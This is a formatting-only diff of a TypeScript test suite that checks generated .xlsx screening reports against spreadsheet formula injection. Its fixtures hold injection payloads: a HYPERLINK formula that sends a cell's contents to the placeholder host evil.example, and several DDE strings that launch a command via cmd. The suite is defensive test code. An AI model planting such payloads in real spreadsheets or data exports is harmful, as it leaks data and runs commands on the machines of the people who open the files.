@@ -13,8 +13,8 @@ import { CAMPAIGN, P, seedReadModel } from './readModelFixture';
 const AT = '2025-02-20T10:00:00+08:00';
 const HYPERLINK = '=HYPERLINK("http://evil.example/?d="&C5,"点击查看")';
 const CMD = "+cmd|' /C calc'!A0";
-const SUM = '@SUM(1+1)*cmd|\' /C calc\'!A0';
-const MINUS = '-2+3+cmd|\' /C calc\'!A0';
+const SUM = "@SUM(1+1)*cmd|' /C calc'!A0";
+const MINUS = "-2+3+cmd|' /C calc'!A0";
 
 /** Every cell of every sheet: [sheet, address, value]. */
 function cells(wb: ExcelJS.Workbook): [string, string, ExcelJS.CellValue][] {
@@ -35,7 +35,10 @@ describe('formula injection in the .xlsx reports', () => {
     await db.pool.query('UPDATE screening_result SET name = $2 WHERE id_number = $1', [P.a[2], MINUS]);
     await db.pool.query('UPDATE screening_result SET name = $2 WHERE id_number = $1', [P.a[3], SUM]);
     workbooks = [];
-    for (const [kind, city] of [['province_table', undefined], ['investigation_table', '2201']] as const) {
+    for (const [kind, city] of [
+      ['province_table', undefined],
+      ['investigation_table', '2201'],
+    ] as const) {
       const { report } = await produceReport(db.pool, { campaignId: CAMPAIGN, cityCode: city, kind, requestedBy: 'test', at: AT });
       workbooks.push(await openWithExcelJS((await readReport(db.pool, report.reportId))!.content));
     }
@@ -56,7 +59,9 @@ describe('formula injection in the .xlsx reports', () => {
 
   it('keeps numbers as numbers and its own totals as formulas', () => {
     const summary = workbooks[0].worksheets.find((ws) => cells(workbooks[0]).some(([s, , v]) => s === ws.name && v === '合计'))!;
-    const values = cells(workbooks[0]).filter(([s]) => s === summary.name).map(([, , v]) => v);
+    const values = cells(workbooks[0])
+      .filter(([s]) => s === summary.name)
+      .map(([, , v]) => v);
     expect(values.filter((v) => typeof v === 'number').length).toBeGreaterThan(0);
     const formulas = values.filter((v): v is ExcelJS.CellFormulaValue => typeof v === 'object' && v !== null && 'formula' in v);
     expect(formulas.length).toBeGreaterThan(0);
